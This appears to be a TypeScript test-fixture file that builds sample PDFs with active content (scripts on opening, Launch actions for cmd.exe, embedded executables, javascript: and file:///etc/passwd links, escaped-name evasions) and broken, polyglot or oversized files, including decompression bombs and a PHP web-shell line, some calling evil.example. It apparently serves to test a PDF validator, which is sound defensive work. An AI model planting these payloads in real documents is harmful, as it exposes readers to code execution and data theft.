import { deflateSync } from 'node:zlib';
import { buildPackedPdf, buildPdf, stream } from './pdf.ts';

const annotation = (entries: string) => ({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]` });
const link = (action: string) => annotation(`/Subtype /Link /A << ${action} >>`);
const SCRIPT = '/S /JavaScript /JS (app.alert(1))';

/** Everything in a PDF that does more than show pages, as parts of a document. */
export const ACTIVE_PARTS: Record<string, Parameters<typeof buildPdf>[0]> = {
  'a script run on opening': { catalog: `/OpenAction << ${SCRIPT} >>` },
  'a script in a separate object': { catalog: '/OpenAction 5 0 R', extra: [`<< ${SCRIPT} >>`] },
  'an action chained to a page action': {
    catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << ${SCRIPT} >> >>`,
  },
  'a missing opening action': { catalog: '/OpenAction 77 0 R' },
  'a script whose type is in another object': {
    catalog: '/OpenAction << /S 5 0 R /JS (app.alert(1)) >>',
    extra: ['/JavaScript'],
  },
  'a script without a type': link('/S /Rendition /JS (app.alert(1))'),
  'a script on closing': { catalog: `/AA << /WC << ${SCRIPT} >> >>` },
  'a script on opening a page': { page: `/AA << /O << ${SCRIPT} >> >>` },
  'named scripts': { catalog: `/Names << /JavaScript << /Names [(a) << ${SCRIPT} >>] >> >>` },
  'an XFA form': { catalog: '/AcroForm << /Fields [] /XFA (<xdp/>) >>' },
  'a calculating form field': { catalog: `/AcroForm << /Fields [<< /T (a) /AA << /K << ${SCRIPT} >> >> >>] >>` },
  'a program to launch': { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' },
  'a link to a program': link('/S /Launch /Win << /F (cmd.exe) >>'),
  'several embedded files': { catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>', extra: ['<< /A 1 >>'] },
  'an embedded file': { extra: [stream('/Type /EmbeddedFile', 'MZ')] },
  'a portfolio': { catalog: '/Collection << /View /D >>' },
  'a file attachment annotation': annotation('/Subtype /FileAttachment /FS << /Type /Filespec /F (a.exe) >>'),
  'a file specification': { extra: ['<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>'] },
  'rich media': annotation('/Subtype /RichMedia /RichMediaContent << >>'),
  'an old movie annotation': annotation('/Subtype /Movie /Movie << /F (a.avi) >>'),
  'a screen': annotation('/Subtype /Screen'),
  'a sound': annotation('/Subtype /Sound'),
  'a 3D annotation': annotation('/Subtype /3D'),
  'a submitted form': link('/S /SubmitForm /F (http://evil.example)'),
  'an imported form': link('/S /ImportData /F (a.fdf)'),
  'a reset form': link('/S /ResetForm'),
  'a link to another file': link('/S /GoToR /F (//evil.example/a.pdf) /D [0 /Fit]'),
  'a link to an embedded file': link('/S /GoToE /T << >>'),
  'a menu command': link('/S /Named /N /Print'),
  'a hide action': link('/S /Hide /T (a)'),
  'a layer action': link('/S /SetOCGState /State []'),
  'a rich media command': link('/S /RichMediaExecute /CMD << >>'),
  'a link to a script': link('/S /URI /URI (javascript:alert(1))'),
  'a link to a script in mixed case': link('/S /URI /URI ( JaVa\\012Script:alert\\(1\\))'),
  'a link to a script in hexadecimal': link('/S /URI /URI <6a6176617363726970743a61>'),
  'a link to a local file': link('/S /URI /URI (file:///etc/passwd)'),
  'a link to a data URL': link('/S /URI /URI (data:text/html,x)'),
  'a link in another object': { ...link('/S /URI /URI 5 0 R'), extra: ['(javascript:alert(1))'] },
  'a script with escaped names': { catalog: '/OpenAction << /S /J#61v#61Script /J#53 (app.alert(1)) >>' },
  'an opening action with an escaped name': { catalog: `/Open#41ction << ${SCRIPT} >>` },
  'a program with an escaped name': link('/S /L#61unch'),
  'a form with an escaped name': { catalog: '/AcroForm << /#58#46#41 (x) >>' },
};

const between = (text: string | Buffer) => buildPdf({ between: text });
const after = (text: string | Buffer) => buildPdf({ after: text });
const whole = buildPdf();
const END_OF_ZIP = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
const pageOf = (kids: string, extra: string[] = []) =>
  buildPdf({ pages: `<< /Type /Pages /Kids [${kids}] /Count 1 >>`, extra });
const flate = '/Filter /FlateDecode';
const picture = (entries: string) => buildPdf({ extra: [stream(`/Type /XObject /Subtype /Image ${entries}`, 'x')] });

/** Broken, polyglot or oversized documents. */
export const BROKEN_PDFS: Record<string, Buffer> = {
  'with bytes before its header': Buffer.concat([Buffer.from(' '), whole]),
  'of an unknown version': buildPdf({ header: '%PDF-3.0\n' }),
  'without a version': buildPdf({ header: '%PDF-\n' }),
  'followed by an HTML page': after('<html><script>alert(1)</script></html>'),
  'followed by plain text': after('hello'),
  'followed by an executable': after('MZ\x90\0\x03'),
  'followed by an archive': after(END_OF_ZIP),
  'with an archive in a comment': between(Buffer.concat([Buffer.from('%'), END_OF_ZIP, Buffer.from('\n')])),
  'with an archive in a stream': buildPdf({ content: Buffer.concat([Buffer.from('PK\x03\x04'), END_OF_ZIP]) }),
  'with another kind of archive in a stream': buildPdf({ content: 'Rar!\x1a\x07\x00' }),
  'with a tar header': buildPdf({ header: `%PDF-1.7\n%${' '.repeat(247)}ustar\n` }),
  'with an ISO 9660 header': buildPdf({ header: `%PDF-1.7\n%${' '.repeat(0x8001 - 10)}CD001\n` }),
  'with an HTML page in a comment': between('%<html><body onload=alert(1)>\n'),
  'with an HTML script in a stream': buildPdf({ content: '<ScRiPt src=//evil.example>' }),
  'with a PHP script in a stream': buildPdf({ content: '<?php system($_GET[0]); ?>' }),
  'with an SVG in a string': buildPdf({ catalog: '/Lang (<svg onload=alert\\(1\\)>)' }),
  'with a script in a comment': between('%9 0 obj << /S /JavaScript >> endobj\n'),
  'with a script in a stream that a repair could find': buildPdf({ content: '9 0 obj<</S/JavaScript/JS(x)>>endobj' }),
  'with text between objects': between('hello\n'),
  'with an object without an end': between('9 0 obj << >>\n'),
  'with half a dictionary': between('9 0 obj << /A endobj\n'),
  'with a key twice': buildPdf({ catalog: '/Lang (a) /Lang (b)' }),
  'with a key that is not a name': buildPdf({ catalog: '(a) (b)' }),
  'with an unterminated string': buildPdf({ catalog: '/Lang (a' }),
  'with invalid hexadecimal digits': buildPdf({ catalog: '/Lang <zz>' }),
  'with an unknown keyword': buildPdf({ catalog: '/Lang maybe' }),
  'with an invalid number': buildPdf({ catalog: '/Lang 1.2.3' }),
  'with deep nesting': buildPdf({ catalog: `/A ${'['.repeat(5_000)}${']'.repeat(5_000)}` }),
  'with a million values': buildPdf({ catalog: `/A [${'1 '.repeat(1_000_000)}]` }),
  'with a wrong startxref': buildPdf({ startOfList: (real) => real + 1 }),
  'with a startxref of zero': buildPdf({ startOfList: () => 0 }),
  'with wrong offsets': buildPdf({ offsetOf: (real) => real + 1 }),
  'with offsets into a stream': buildPdf({ offsetOf: () => 250 }),
  'with a missing previous table': buildPdf({ trailer: '/Prev 12345' }),
  'without a root': Buffer.from(whole.toString('latin1').replace('/Root 1 0 R', '/Root 9 0 R'), 'latin1'),
  'that is encrypted': buildPdf({ trailer: '/Encrypt << /Filter /Standard /V 4 >>' }),
  'that is encrypted, with object streams': buildPackedPdf({ trailer: '/Encrypt << /Filter /Standard /V 4 >>' }),
  'without pages': pageOf(''),
  'with a cycle of pages': pageOf('2 0 R'),
  'with a missing page': pageOf('99 0 R'),
  'with a page listed twice': pageOf('3 0 R 3 0 R'),
  'with a page of another type': pageOf('5 0 R', ['<< /Type /Font >>']),
  'with a thousand pages': pageOf(
    Array.from({ length: 1_000 }, (_, index) => `${index + 5} 0 R`).join(' '),
    Array.from({ length: 1_000 }, () => '<< /Type /Page >>'),
  ),
  'with a stream longer than its length': buildPdf({
    extra: ['<< /Length 2 >>\nstream\n5 0 obj\nendstream'],
  }),
  'with a stream shorter than its length': buildPdf({ extra: ['<< /Length 999 >>\nstream\nx\nendstream'] }),
  'with a stream of unknown length': buildPdf({ extra: ['<< /Length 9 0 R >>\nstream\nx\nendstream'] }),
  'with a stream without a line break': buildPdf({ extra: ['<< /Length 1 >>\nstream x\nendstream'] }),
  'with an external stream': buildPdf({ extra: [stream('/F (//evil.example/a)', '')] }),
  'with an invalid compressed stream': buildPdf({ contentDictionary: flate, content: 'not packed' }),
  'with a truncated compressed stream': buildPdf({
    contentDictionary: flate,
    content: deflateSync(Buffer.alloc(9_999, 'abc')).subarray(0, 20),
  }),
  'compressed twice': buildPdf({
    contentDictionary: '/Filter [/FlateDecode /FlateDecode]',
    content: deflateSync(deflateSync(Buffer.from('BT ET'))),
  }),
  'that decompresses to hundreds of megabytes': buildPdf({
    contentDictionary: flate,
    content: deflateSync(Buffer.alloc(90 * 1024 * 1024)),
  }),
  'with a picture of a gigapixel': picture('/Width 40000 /Height 40000'),
  'with a picture without a size': picture('/Width 9'),
  'with an unknown filter': buildPdf({ contentDictionary: '/Filter /Magic' }),
  'with an encryption filter': buildPdf({ contentDictionary: '/Filter /Crypt' }),
  'with an old filter': buildPdf({ contentDictionary: '/Filter /LZWDecode' }),
  'with a JBIG2 filter': buildPdf({ contentDictionary: '/Filter /JBIG2Decode' }),
  'with an object stream without a type': buildPackedPdf(ACTIVE_PARTS['a program to launch'], { type: '' }),
  'with an invalid object stream': buildPackedPdf({}, { container: 4 }),
  'with an object stream of too many objects': buildPackedPdf({}, { count: 999_999 }),
  'with an object stream that begins after its end': buildPackedPdf({}, { first: 999_999 }),
  'with an object stream in a picture filter': buildPackedPdf({}, { filter: '/DCTDecode' }),
  ...Object.fromEntries(
    [0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9, 0.97].flatMap((share) => [
      [`of which ${share} is there`, whole.subarray(0, Math.floor(whole.length * share))],
      [`packed, of which ${share} is there`, cut(buildPackedPdf(), share)],
    ]),
  ),
};

function cut(content: Buffer, share: number): Buffer {
  return content.subarray(0, Math.floor(content.length * share));
}
